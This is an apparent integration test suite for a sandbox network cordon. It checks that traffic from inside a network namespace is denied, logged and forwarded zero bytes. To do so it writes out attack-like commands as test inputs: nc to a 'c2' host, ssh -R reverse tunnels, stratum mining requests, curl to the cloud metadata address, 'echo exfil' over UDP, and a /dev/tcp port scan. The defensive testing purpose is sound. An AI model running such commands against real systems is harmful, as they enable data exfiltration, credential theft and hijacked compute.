/**
 * The network cordon end to end: real netns, veth and nftables, clients run inside the sandbox's
 * netns. Rogue names map (network.hosts) to listeners on this namespace's loopback, so a flow that
 * was wrongly allowed would land there: each denial asserts those listeners received nothing.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  EventBus,
  type CordonEvent,
  type DnsQueryEvent,
  type NetDropEvent,
} from '../../src/events/index.js';
import { resolvePolicy, type PolicyInput } from '../../src/policy/index.js';
import { NetworkCordon, type NetworkAttachment } from '../../src/net/cordon.js';
import { kernelRelayStatus } from '../../src/net/relay.js';
import { collectLeftovers, listVeths } from '../../src/net/leftovers.js';
import { createSlot, slotSpec } from '../../src/net/netns.js';
import { installSandboxRules } from '../../src/net/nft.js';
import { runTool } from '../../src/net/tools.js';
import {
  cordonLeftovers,
  countingServer,
  flows,
  httpServer,
  inNetns,
  ISOLATED,
  SKIP_REASON,
  waitFor,
  type CountingServer,
} from './helpers.js';

const ROGUE_HOSTS = {
  'c2.rogue.test': '127.0.0.1',
  'pool.rogue.test': '127.0.0.1',
  'evil.rogue.test': '127.0.0.1',
};

describe.skipIf(!ISOLATED)(`network cordon (${SKIP_REASON})`, () => {
  const bus = new EventBus();
  const events: CordonEvent[] = [];
  let cordon: NetworkCordon;
  const upstream: Record<number, CountingServer> = {};
  let metadata: CountingServer;
  let counter = 0;

  beforeAll(async () => {
    bus.subscribe((e) => events.push(e));
    for (const port of [22, 443, 3333]) upstream[port] = await countingServer(port);
    // The metadata address exists only inside this throwaway namespace, so a wrongly allowed
    // request would reach this listener instead of failing to connect.
    await runTool('ip', ['addr', 'add', '169.254.169.254/32', 'dev', 'lo']);
    metadata = await countingServer(80, '169.254.169.254');
    cordon = await NetworkCordon.start({ bus, poolSize: 2 });
  });

  afterAll(async () => {
    await cordon?.close();
    for (const s of Object.values(upstream)) await s.close();
    await metadata?.close();
    await runTool('ip', ['addr', 'del', '169.254.169.254/32', 'dev', 'lo']);
  });

  async function attach(network: PolicyInput['network']): Promise<NetworkAttachment> {
    counter += 1;
    const id = `sb-${counter}`;
    return cordon.attach(id, resolvePolicy({ network }), {
      sandboxId: id,
      stepId: `step-${counter}`,
    });
  }

  function cordonStats() {
    return flows(events).length + events.filter((e) => e.kind === 'net.dns').length;
  }

  function flowsOf(att: NetworkAttachment) {
    return flows(events).filter((e) => e.sandboxId === att.sandboxId);
  }

  test('denies an SSH banner sent to c2.rogue.test:22, names host, port and ssh, forwards zero bytes', async () => {
    const att = await attach({ allow: ['c2.rogue.test:443'], hosts: ROGUE_HOSTS });
    await inNetns(att, `printf 'SSH-2.0-OpenSSH_9.6\\r\\n' | nc -w3 c2.rogue.test 22`);
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      host: 'c2.rogue.test',
      port: 22,
      protocol: 'ssh',
      decision: 'deny',
      stepId: 'step-1',
    });
    expect(upstream[22]!.connections).toBe(0);
    expect(upstream[22]!.bytes).toBe(0);
    await att.detach();
  });

  test('denies ssh -R to c2.rogue.test:443 although the destination is allowed (protocol pinning)', async () => {
    const att = await attach({ allow: ['c2.rogue.test:443'], hosts: ROGUE_HOSTS });
    const r = await inNetns(
      att,
      'ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 ' +
        '-p 443 -R 8022:localhost:22 agent@c2.rogue.test true',
    );
    expect(r.code).not.toBe(0);
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      host: 'c2.rogue.test',
      port: 443,
      protocol: 'ssh',
      decision: 'deny',
      rule: 'protocol-not-allowed:c2.rogue.test:443',
    });
    expect(flow.exe ?? '').toMatch(/ssh/);
    expect(upstream[443]!.connections).toBe(0);
    await att.detach();
  });

  test.each([3333, 443])(
    'denies stratum v1 to pool.rogue.test:%i and forwards zero bytes',
    async (port) => {
      const att = await attach({ allow: ['pool.rogue.test:443'], hosts: ROGUE_HOSTS });
      const line = '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}';
      await inNetns(att, `printf '${line}\\n' | nc -w3 pool.rogue.test ${port}`);
      const flow = await waitFor(() => flowsOf(att)[0]);
      expect(flow).toMatchObject({
        host: 'pool.rogue.test',
        port,
        protocol: 'stratum',
        decision: 'deny',
      });
      expect(flow.details?.stratumMethod).toBe('mining.subscribe');
      expect(upstream[port]!.connections).toBe(0);
      await att.detach();
    },
  );

  test('denies stratum tunnelled through an HTTP CONNECT to the proxy', async () => {
    const att = await attach({ allow: ['pool.rogue.test:443'], hosts: ROGUE_HOSTS });
    const proxy = new URL(att.env.HTTP_PROXY!);
    const r = await inNetns(
      att,
      `(printf 'CONNECT pool.rogue.test:443 HTTP/1.1\\r\\nHost: pool.rogue.test:443\\r\\n\\r\\n'; sleep 0.3; ` +
        `printf '{"id":1,"method":"mining.authorize","params":["wallet","x"]}\\n'; sleep 0.5) | nc -w3 ${proxy.hostname} ${proxy.port}`,
    );
    expect(r.stdout).toContain('200 Connection established');
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      host: 'pool.rogue.test',
      port: 443,
      protocol: 'stratum',
      decision: 'deny',
    });
    expect(flow.details?.via).toBe('connect');
    expect(upstream[443]!.connections).toBe(0);
    await att.detach();
  });

  test('a CONNECT to a destination nothing allows is still known by what it tunnels', async () => {
    const att = await attach({ allow: ['registry.test:443/tls'], hosts: ROGUE_HOSTS });
    const proxy = new URL(att.env.HTTP_PROXY!);
    const connect = `printf 'CONNECT pool.rogue.test:3333 HTTP/1.1\\r\\nHost: pool.rogue.test:3333\\r\\n\\r\\n'`;
    await inNetns(
      att,
      `(${connect}; sleep 0.2; printf '{"id":1,"method":"mining.subscribe","params":[]}\\n'; sleep 0.5) | nc -w3 ${proxy.hostname} ${proxy.port}`,
    );
    // A silent tunnel: only its CONNECT is known.
    await inNetns(att, `(${connect}; sleep 1) | nc -w3 ${proxy.hostname} ${proxy.port}`);
    const flows = await waitFor(() => (flowsOf(att).length >= 2 ? flowsOf(att) : undefined));
    expect(flows.map((f) => [f.host, f.port, f.protocol, f.decision, f.details?.via])).toEqual([
      ['pool.rogue.test', 3333, 'stratum', 'deny', 'connect'],
      ['pool.rogue.test', 3333, 'http-connect', 'deny', 'connect'],
    ]);
    expect(upstream[3333]!.connections).toBe(0);
    await att.detach();
  });

  test('denies TLS to an unlisted SNI', async () => {
    const att = await attach({ allow: ['registry.test:443/tls'], hosts: ROGUE_HOSTS });
    const r = await inNetns(att, 'curl -sk --max-time 5 https://evil.rogue.test/');
    expect(r.code).not.toBe(0);
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      host: 'evil.rogue.test',
      sni: 'evil.rogue.test',
      protocol: 'tls',
      decision: 'deny',
    });
    expect(upstream[443]!.connections).toBe(0);
    await att.detach();
  });

  test('denies curl to the cloud metadata address', async () => {
    const att = await attach({ allow: ['registry.test:80'] });
    const r = await inNetns(att, 'curl -s --max-time 5 http://169.254.169.254/latest/meta-data/');
    expect(r.code).not.toBe(0);
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      address: '169.254.169.254',
      port: 80,
      protocol: 'http',
      decision: 'deny',
      rule: 'builtin:metadata',
    });
    expect(metadata.connections).toBe(0);
    await att.detach();
  });

  test('drops UDP to 198.18.0.5:9999 and records it as net.drop', async () => {
    const att = await attach({});
    await inNetns(att, 'echo exfil | nc -u -w1 198.18.0.5 9999');
    await att.detach(); // the final read of the drop set happens at detach
    const drops = events.filter(
      (e): e is NetDropEvent => e.kind === 'net.drop' && e.sandboxId === att.sandboxId,
    );
    expect(drops).toContainEqual(
      expect.objectContaining({ protocol: 'udp', address: '198.18.0.5', port: 9999 }),
    );
  });

  test('answers a query sent to an outside resolver and records that resolver', async () => {
    const att = await attach({});
    const r = await inNetns(att, 'dig +short +tries=1 +time=3 @198.18.0.9 x.test');
    expect(r.stdout.trim()).toMatch(/^198\.18\.\d+\.\d+$/);
    const q = await waitFor(() =>
      events.find(
        (e): e is DnsQueryEvent =>
          e.kind === 'net.dns' && e.sandboxId === att.sandboxId && e.name === 'x.test',
      ),
    );
    expect(q.resolver).toBe('198.18.0.9:53');
    await att.detach();
  });

  test('an allowed 5 MB download from a server mapped by network.hosts arrives byte-exact, directly and via HTTP_PROXY', async () => {
    const blob = randomBytes(5 * 1024 * 1024);
    const digest = createHash('sha256').update(blob).digest('hex');
    const srv = await httpServer((_req, res) => res.end(blob));
    try {
      const att = await attach({
        allow: [`registry.test:${srv.port}`],
        hosts: { 'registry.test': '127.0.0.1' },
      });
      const url = `http://registry.test:${srv.port}/blob`;
      const direct = await inNetns(att, `curl -sf --noproxy '*' ${url} | sha256sum`);
      expect(direct.stdout.split(' ')[0]).toBe(digest);
      const proxied = await inNetns(att, `curl -sf ${url} | sha256sum`, att.env);
      expect(proxied.stdout.split(' ')[0]).toBe(digest);
      const closes = await waitFor(() => {
        const c = flows(events, 'close').filter((e) => e.sandboxId === att.sandboxId);
        return c.length === 2 ? c : undefined;
      });
      for (const c of closes) {
        expect(c).toMatchObject({
          host: 'registry.test',
          decision: 'allow',
          rule: `registry.test:${srv.port}`,
        });
        expect(c.bytesIn).toBeGreaterThan(blob.length);
      }
      expect(closes.map((c) => c.details?.via)).toContain('absolute-uri');
      await att.detach();
    } finally {
      await srv.close();
    }
  });

  test("an allowed CONNECT tunnel is relayed in the kernel: byte-exact both ways, the proxy's own 200 not counted", async () => {
    const request = Buffer.alloc(300_000, 0x78);
    const reply = randomBytes(3 * 1024 * 1024);
    const got: Buffer[] = [];
    const srv = createServer({ allowHalfOpen: true }, (s) => {
      s.on('data', (b: Buffer) => got.push(b));
      s.once('end', () => s.end(reply));
    });
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    const port = (srv.address() as { port: number }).port;
    const dir = mkdtempSync(join(tmpdir(), 'cordon-connect-'));
    // Inside the sandbox: CONNECT, then send the request, end, and hash what comes back.
    writeFileSync(
      join(dir, 'client.mjs'),
      `import net from 'node:net'; import { createHash } from 'node:crypto';
const [host, port, target] = process.argv.slice(2);
const s = net.connect({ host, port: Number(port), allowHalfOpen: true });
let head = Buffer.alloc(0); let body = null; const hash = createHash('sha256'); let n = 0;
s.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: ' + target + '\\r\\n\\r\\n');
s.on('data', (b) => {
  if (body) { hash.update(b); n += b.length; return; }
  head = Buffer.concat([head, b]); const i = head.indexOf('\\r\\n\\r\\n'); if (i < 0) return;
  body = head.subarray(i + 4); hash.update(body); n += body.length;
  s.end(Buffer.alloc(${request.length}, 0x78));
});
s.on('end', () => console.log(JSON.stringify({ n, sha: hash.digest('hex') })));`,
    );
    try {
      const att = await attach({
        allow: [`registry.test:${port}`],
        hosts: { 'registry.test': '127.0.0.1' },
      });
      const before = cordon.relayStats.inKernel;
      const proxy = new URL(att.env.HTTP_PROXY!);
      const r = await inNetns(
        att,
        `${process.execPath} ${join(dir, 'client.mjs')} ${proxy.hostname} ${proxy.port} registry.test:${port}`,
      );
      expect(JSON.parse(r.stdout)).toEqual({
        n: reply.length,
        sha: createHash('sha256').update(reply).digest('hex'),
      });
      expect(Buffer.concat(got).equals(request)).toBe(true);
      const close = await waitFor(() =>
        flows(events, 'close').find((e) => e.sandboxId === att.sandboxId),
      );
      expect(close).toMatchObject({
        decision: 'allow',
        bytesOut: request.length,
        bytesIn: reply.length,
      });
      expect(close.details?.via).toBe('connect');
      expect(close.details?.error).toBeUndefined();
      expect(cordon.relayStats.inKernel - before).toBe(kernelRelayStatus().available ? 1 : 0);
      await att.detach();
    } finally {
      srv.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('the gateway itself is not reachable: other ports on it are denied by a built-in rule', async () => {
    const att = await attach({});
    await inNetns(att, `printf 'SSH-2.0-x\\r\\n' | nc -w2 ${att.hostAddress} 22`);
    const flow = await waitFor(() => flowsOf(att)[0]);
    expect(flow).toMatchObject({
      address: att.hostAddress,
      port: 22,
      decision: 'deny',
      rule: 'builtin:cordon-veth',
    });
    const v6 = await inNetns(att, 'cat /proc/sys/net/ipv6/conf/all/disable_ipv6; ip -6 addr show');
    expect(v6.stdout.trim()).toBe('1');
    await att.detach();
  });

  test('the proxy and DNS ports accept no connection that does not come from a cordon veth', async () => {
    const before = cordonStats();
    const r = await runTool('nc', ['-z', '-w', '1', '127.0.0.1', String(cordon.proxyPort)]);
    expect(r.code).not.toBe(0);
    const dns = await runTool('dig', [
      '+short',
      '+tries=1',
      '+time=1',
      '-p',
      String(cordon.dnsPorts.udp),
      '@127.0.0.1',
      'x.test',
    ]);
    expect(dns.stdout).not.toMatch(/198\.18\./);
    expect(cordonStats()).toEqual(before);
  });

  test('a connect-and-close scan right before detach: every flow is on the bus when detach returns', async () => {
    const att = await attach({});
    // 40 connections opened and closed at once; detach starts the moment the scan has exited,
    // while many of them still wait in the proxy's accept backlog.
    await inNetns(
      att,
      `bash -c 'for p in $(seq 2000 2039); do (exec 3<>/dev/tcp/198.18.0.7/$p) 2>/dev/null & done; wait'`,
    );
    await att.detach();
    const ports = new Set(flowsOf(att).map((f) => f.port));
    expect([...ports].sort()).toEqual(Array.from({ length: 40 }, (_, i) => 2000 + i));
    expect(flowsOf(att).every((f) => f.decision === 'deny' && f.stepId === `step-${counter}`)).toBe(
      true,
    );
  });

  test('detach leaves no netns, veth or nft rule of the sandbox', async () => {
    const att = await attach({});
    const id = att.netnsName.replace('cordon-', '');
    expect(existsSync(att.netnsPath)).toBe(true);
    expect((await cordonLeftovers()).veths).toContain(`cdn${id}`);
    await att.detach();
    expect(existsSync(att.resolvConfPath)).toBe(false);
    const veth = (await listVeths()).find((v) => v.name === `cdn${id}`);
    const reusedByAnotherCordon =
      veth !== undefined && !veth.alias.startsWith(`cordon:${process.pid}:`);
    if (reusedByAnotherCordon) {
      // Another test worker's cordon took the freed slot at once: it is theirs, not a leftover.
      expect(veth.alias).toMatch(/^cordon:\d+:/);
    } else {
      expect(veth).toBeUndefined();
      expect(existsSync(att.netnsPath)).toBe(false);
      const left = await cordonLeftovers();
      expect(left.chains).not.toContain(`nat_${id}`);
      expect(left.chains).not.toContain(`filt_${id}`);
    }
  });

  test('50 attach/detach cycles, then close, leave nothing behind', async () => {
    // Only this cordon's own networks count: other test files run cordons at the same time.
    const own = await NetworkCordon.start({ bus: new EventBus(), poolSize: 2 });
    const used = new Set<string>();
    for (let i = 0; i < 50; i++) {
      const att = await own.attach(`cycle-${i}`, resolvePolicy({}), { sandboxId: `cycle-${i}` });
      used.add(att.netnsName);
      await att.detach();
    }
    await own.close();
    expect(used.size).toBeGreaterThan(0);
    // A slot freed here may be taken at once by a cordon in another worker: a veth still labelled
    // with this process as its owner is what would be a leftover of ours.
    const ids = new Set([...used].map((name) => name.replace(/^cordon-/, '')));
    const ours = (await listVeths()).filter(
      (v) => ids.has(v.name.replace(/^cdn/, '')) && v.alias.startsWith(`cordon:${process.pid}:`),
    );
    expect(ours).toEqual([]);
  }, 120_000);

  test('collectLeftovers removes the netns, veth and rules of a cordon process that is gone', async () => {
    const spec = slotSpec(16000);
    expect(await createSlot(spec)).toBe(true);
    await installSandboxRules(spec.id, spec.vethHost, { proxy: 1, dnsUdp: 2, dnsTcp: 3 });
    // Pretend the owner died: a pid that cannot exist (above pid_max's maximum).
    await runTool('ip', ['link', 'set', spec.vethHost, 'alias', 'cordon:4194305:1']);
    const { removed } = await collectLeftovers();
    expect(removed).toContain(spec.id);
    const left = await cordonLeftovers();
    expect(left.netns).not.toContain(spec.netnsName);
    expect(left.veths).not.toContain(spec.vethHost);
    expect(left.chains).not.toContain(`nat_${spec.id}`);
  });
});
